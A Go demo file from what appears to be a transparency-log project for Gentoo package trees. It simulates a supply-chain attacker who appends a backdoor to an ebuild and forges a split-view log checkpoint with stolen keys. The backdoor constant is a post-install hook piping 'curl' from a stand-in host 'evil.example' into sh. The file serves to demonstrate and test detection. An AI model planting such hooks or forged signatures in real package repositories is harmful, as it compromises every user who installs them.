package demo

import (
	"context"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"golang.org/x/mod/sumdb/tlog"

	"treelog/checkpoint"
	"treelog/demo/mirror"
	"treelog/demo/network"
	"treelog/internal/keyfile"
	"treelog/manifest"
	"treelog/metamanifest"
	"treelog/note"
	"treelog/publisher"
	"treelog/tiles"
)

// backdoor is what the attacker adds to an ebuild.
const backdoor = "\npkg_postinst() { curl -s https://evil.example/x | sh; }\n"

// tamper copies the tree src to dst and appends the backdoor to its first
// ebuild, leaving every Manifest and the MetaManifest as they were. It
// returns the tree-relative path of the changed file.
func tamper(src, dst string) (string, error) {
	if err := mirror.CopyTree(src, dst); err != nil {
		return "", err
	}
	var ebuilds []string
	err := filepath.WalkDir(dst, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.Type().IsRegular() && strings.HasSuffix(p, ".ebuild") {
			ebuilds = append(ebuilds, p)
		}
		return nil
	})
	if err != nil {
		return "", err
	}
	if len(ebuilds) == 0 {
		return "", fmt.Errorf("no ebuild in %s", dst)
	}
	sort.Strings(ebuilds)
	f, err := os.OpenFile(ebuilds[0], os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		return "", err
	}
	if _, err := f.WriteString(backdoor); err != nil {
		f.Close()
		return "", err
	}
	if err := f.Close(); err != nil {
		return "", err
	}
	rel, _ := filepath.Rel(dst, ebuilds[0])
	return filepath.ToSlash(rel), nil
}

// splitView builds, in dst, what an attacker holding the log's key, the
// publisher's key and two witnesses' keys shows its victims: the newest
// snapshot with a backdoor, its Manifests and MetaManifest made anew and
// signed with the publisher's key, and a tlog-proof into a fork of the log
// — the real entries before the newest snapshot, then the backdoored one —
// whose checkpoint has the real log's size, is signed with the log's key
// and cosigned with the two witnesses' keys. Every signature verifies;
// only the history differs from everybody else's.
func splitView(n *network.Network, snaps []network.Snapshot, dst string) (string, error) {
	last := snaps[len(snaps)-1]
	rel, err := tamper(last.Dir, dst)
	if err != nil {
		return "", err
	}
	ts := time.Now().UTC().Truncate(time.Second)
	if _, err := manifest.Create(context.Background(), dst, manifest.WithLayout(manifest.LayoutGentoo), manifest.WithTimestamp(ts)); err != nil {
		return "", err
	}
	mm, err := publisher.Sign(dst, n.Opts.TreeOrigin, "", n.Publisher)
	if err != nil {
		return "", err
	}

	// The fork: the logged entries before the newest snapshot (its
	// snapshots and its index entries), then the backdoored one.
	entries, err := logEntries(n, snaps[len(snaps)-1].Index)
	if err != nil {
		return "", err
	}
	entries = append(entries, mm)
	var hashes []tlog.Hash
	reader := tlog.HashReaderFunc(func(idx []int64) ([]tlog.Hash, error) {
		out := make([]tlog.Hash, len(idx))
		for i, x := range idx {
			out[i] = hashes[x]
		}
		return out, nil
	})
	for i, e := range entries {
		hs, err := tlog.StoredHashes(int64(i), e, reader)
		if err != nil {
			return "", err
		}
		hashes = append(hashes, hs...)
	}
	size := int64(len(entries))
	root, err := tlog.TreeHash(size, reader)
	if err != nil {
		return "", err
	}
	incl, err := tlog.ProveRecord(size, size-1, reader)
	if err != nil {
		return "", err
	}

	// The forked checkpoint, signed with the log's key and cosigned with
	// two stolen witness keys.
	signers := []note.Signer{n.LogSigner}
	for _, w := range n.Witnesses[:2] {
		s, err := keyfile.ReadSigner(filepath.Join(n.Dir, w.Name+".key"))
		if err != nil {
			return "", err
		}
		signers = append(signers, s)
	}
	cp, err := checkpoint.Sign(checkpoint.Checkpoint{Origin: n.LogSigner.Name(), Size: uint64(size), Hash: root}, signers...)
	if err != nil {
		return "", err
	}
	proof := &checkpoint.Proof{Index: uint64(size - 1), Checkpoint: cp}
	for _, h := range incl {
		proof.Inclusion = append(proof.Inclusion, checkpoint.Hash(h))
	}
	_, proofPath := metamanifest.Paths(dst)
	if err := os.WriteFile(proofPath, proof.Marshal(), 0o644); err != nil {
		return "", err
	}
	return rel, nil
}

// logEntries reads the first count entries of the network's log, from
// the bundles of its latest checkpoint.
func logEntries(n *network.Network, count uint64) ([][]byte, error) {
	r, err := tiles.NewHTTPReader([]string{n.LogURL})
	if err != nil {
		return nil, err
	}
	_, cp, _ := n.Log.Published()
	p := tiles.NewProver(r, 64)
	var out [][]byte
	for b := uint64(0); b*tiles.TileWidth < count; b++ {
		es, err := tiles.VerifiedEntries(context.Background(), r, p, cp, b)
		if err != nil {
			return nil, err
		}
		for i, e := range es {
			if b*tiles.TileWidth+uint64(i) < count {
				out = append(out, e)
			}
		}
	}
	return out, nil
}
